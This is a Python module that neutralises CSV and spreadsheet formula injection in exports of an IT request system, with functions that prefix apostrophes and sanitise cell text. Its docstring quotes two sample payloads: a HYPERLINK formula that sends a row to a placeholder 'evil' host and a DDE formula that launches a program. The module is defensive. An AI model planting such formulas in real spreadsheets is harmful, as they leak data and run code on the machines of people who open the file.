"""Cell values that are safe to put in a spreadsheet someone will open (CSV or .xlsx).

Why: request data comes from mail and forms that outsiders fill in.  A cell that starts
with ``=`` (or ``+``, ``-``, ``@``, a tab or a carriage return) is read by Excel, WPS and
LibreOffice as a formula -- ``=HYPERLINK("http://evil/?"&A1,"详情")`` leaks the row, and
``=cmd|' /C calc'!A0`` (DDE) runs a program on the IT desk's PC.  This is "CSV injection"
(OWASP, https://owasp.org/www-community/attacks/CSV_Injection); openpyxl even turns any
``str`` starting with ``=`` into a real formula when it writes an .xlsx.

The rule, for every export -- the CSV and .xlsx lists of requests, and the coming archive
export -- is: **every cell value goes through** :func:`safe_sheet_value` (which applies
:func:`neutralise_cell`) **right before it is written**.  Not at input time: the archive
keeps what was sent, byte for byte (R-GEN-3), and only the sheet view is defused.

Numbers, dates, times, booleans and ``None`` are typed values, never formulas: they are
left as they are, so sums and date filters keep working.  Exports should therefore write
numbers as numbers: a number kept as text ("-5") gets the apostrophe like any other text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["FORMULA_TRIGGERS", "MAX_CELL_CHARS", "neutralise_cell", "safe_csv_row", "safe_row",
           "safe_sheet_value"]

# OWASP's list, plus the full-width forms a Chinese input method types (＝＋－＠): Excel and
# WPS read a leading full-width ＝ as the start of a formula too.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

# Whitespace a spreadsheet may skip before it looks for a formula sign (" =1+1" in a CSV
# opened by LibreOffice, "\n=..." pasted into a cell).  Checked, not removed.
_LEADING_SPACE = " \n\x0b\x0c\u00a0\u3000\ufeff"

MAX_CELL_CHARS = 32_767  # Excel's limit per cell; longer text is cut, not refused

# Characters an .xlsx cannot hold (XML 1.0 forbids them; openpyxl raises
# IllegalCharacterError on them): C0 controls except tab, newline and carriage return.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def neutralise_cell(value: object) -> object:
    """The value with a leading ``'`` if a spreadsheet could read it as a formula.

    A ``str`` whose first character -- or first character after leading spaces -- is one
    of :data:`FORMULA_TRIGGERS` gets an apostrophe in front; the apostrophe is not a
    trigger, so the result is stable (applying it twice changes nothing more) and the
    original text is the result without its first character.  Every other value, and
    every other string, is returned unchanged (the very same object).
    """
    if not isinstance(value, str) or not value:
        return value
    first = value.lstrip(_LEADING_SPACE)[:1] or value[:1]
    if value[0] in FORMULA_TRIGGERS or first in FORMULA_TRIGGERS:
        return "'" + value
    return value


def safe_sheet_value(value: object) -> object:
    """What every export writes into a cell: see the module docstring for the rule.

    :func:`neutralise_cell`, then text an .xlsx can hold: C0 control characters that XML
    forbids are dropped and the text is cut to Excel's 32,767 characters.  Non-text values
    pass through unchanged.
    """
    if not isinstance(value, str):
        return value
    text = _ILLEGAL_XML.sub("", value)
    cleaned = neutralise_cell(text)
    assert isinstance(cleaned, str)
    return cleaned[:MAX_CELL_CHARS]


def safe_row(values: Iterable[object]) -> list[object]:
    """:func:`safe_sheet_value` over one row, for ``csv.writer.writerow`` and ``ws.append``."""
    return [safe_sheet_value(value) for value in values]


# A CSV opened where the list separator is ";" (German, French… Excel) or "," splits an
# unquoted "总计;=HYPERLINK(…)" into two cells, the second a formula: a trigger after a
# separator (and optional spaces) gets the apostrophe too.
_AFTER_SEPARATOR = re.compile(
    "([;,][" + re.escape(_LEADING_SPACE) + "]*)([" + re.escape("".join(FORMULA_TRIGGERS)) + "])")


def safe_csv_value(value: object) -> object:
    """:func:`safe_sheet_value`, and a formula sign after any ``;`` or ``,`` in the text
    neutralised as well (issue 20): a cell must stay text whichever separator the reader
    splits on."""
    cleaned = safe_sheet_value(value)
    if not isinstance(cleaned, str):
        return cleaned
    return _AFTER_SEPARATOR.sub(r"\1'\2", cleaned)[:MAX_CELL_CHARS]


def safe_csv_row(values: Iterable[object]) -> list[object]:
    """:func:`safe_csv_value` over one row, for ``csv.writer.writerow``."""
    return [safe_csv_value(value) for value in values]
